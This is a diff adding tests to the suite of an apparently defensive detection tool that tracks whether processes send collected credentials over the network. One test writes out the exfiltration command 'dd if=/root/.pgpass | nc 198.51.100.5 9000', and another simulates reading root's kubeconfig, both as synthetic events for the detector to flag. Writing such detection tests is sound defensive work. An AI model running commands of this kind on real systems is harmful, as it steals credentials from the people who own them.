@@ -16,7 +16,7 @@ from detonate.detect.correlations.dns_shape import DnsShape, common_bigram_share
 from detonate.detect.correlations.exfiltration import Exfiltration
 from detonate.detect.interface import RunView
 from detonate.detect.provenance import HOST_FACTS, SECRET, provenance_of
-from detonate.model.events import FileOpenedForRead, NetworkSent
+from detonate.model.events import DataWritten, FileOpenedForRead, NetworkSent
 from detonate.model.findings import Severity
 from detonate.model.netevents import DnsQueried
 
@@ -228,3 +228,57 @@ def test_cloud_credentials_from_the_metadata_service_sent_out_are_followed() -> 
 def test_instance_identity_from_the_metadata_service_is_no_secret() -> None:
     run = _metadata_then_post("/latest/meta-data/placement/region")
     assert [s for s in provenance_of(run).sinks if s.taint.kind == SECRET] == []
+
+
+def _send(s, pid: int, address: str, port: int) -> None:  # type: ignore[no-untyped-def]
+    s.add(
+        NetworkSent,
+        pid,
+        family="AF_INET",
+        protocol="TCP",
+        address=address,
+        port=port,
+        bytes=300,
+        call="write",
+        succeeded=True,
+    )
+
+
+def test_a_second_tools_credential_file_makes_the_reader_a_collector_from_then_on() -> None:
+    """Ruby reads its app's dotenv and talks to its database (its own credentials, used), then
+    reads root's kubeconfig: from that read on, what it sends carries collected credentials."""
+    from .stream import Stream
+
+    s = Stream()
+    s.exec(1, "ruby", "/srv/app/worker.rb", path="/usr/bin/ruby")
+    s.add(FileOpenedForRead, 1, path="/srv/app/.env", flags="O_RDONLY", succeeded=True)
+    s.connect(1, "203.0.113.20", 5432)
+    _send(s, 1, "203.0.113.20", 5432)
+    assert [x for x in provenance_of(s.view()).sinks if x.taint.kind == SECRET] == []
+    s.add(FileOpenedForRead, 1, path="/root/.kube/config", flags="O_RDONLY", succeeded=True)
+    _send(s, 1, "203.0.113.20", 5432)
+    (sink,) = [x for x in provenance_of(s.view()).sinks if x.taint.kind == SECRET]
+    assert [h.path for h in sink.taint.hops[:2]] == ["/srv/app/.env", "/root/.kube/config"]
+    found = rules(Exfiltration().detect(s.view()))
+    assert found["credential-files-sent-out"].evidence[0].path == "/srv/app/.env"
+    assert "credentials-sent-out" in found
+
+
+def test_a_copier_reading_one_credential_file_collects_it_but_its_owner_does_not() -> None:
+    """`dd if=~/.pgpass | nc` collects; psql reading ~/.pgpass to log in does not."""
+    from .stream import Stream
+
+    s = Stream()
+    s.exec(1, "sh", "-c", "dd if=/root/.pgpass | nc 198.51.100.5 9000; psql -h db", path="/bin/sh")
+    s.spawn(1, 2, "dd", "if=/root/.pgpass", path="/bin/dd", stdout="pipe:[3]")
+    s.spawn(1, 3, "nc", "198.51.100.5", "9000", path="/bin/nc", stdin="pipe:[3]")
+    s.add(FileOpenedForRead, 2, path="/root/.pgpass", flags="O_RDONLY", succeeded=True)
+    s.add(DataWritten, 2, path="pipe:[3]", fd=1, bytes=60)
+    s.connect(3, "198.51.100.5", 9000)
+    _send(s, 3, "198.51.100.5", 9000)
+    s.spawn(1, 4, "psql", "-h", "db", path="/usr/bin/psql")
+    s.add(FileOpenedForRead, 4, path="/root/.pgpass", flags="O_RDONLY", succeeded=True)
+    s.connect(4, "203.0.113.20", 5432)
+    _send(s, 4, "203.0.113.20", 5432)
+    sinks = [x for x in provenance_of(s.view()).sinks if x.taint.kind == SECRET]
+    assert [(x.pid, x.path) for x in sinks] == [(3, "198.51.100.5:9000")]
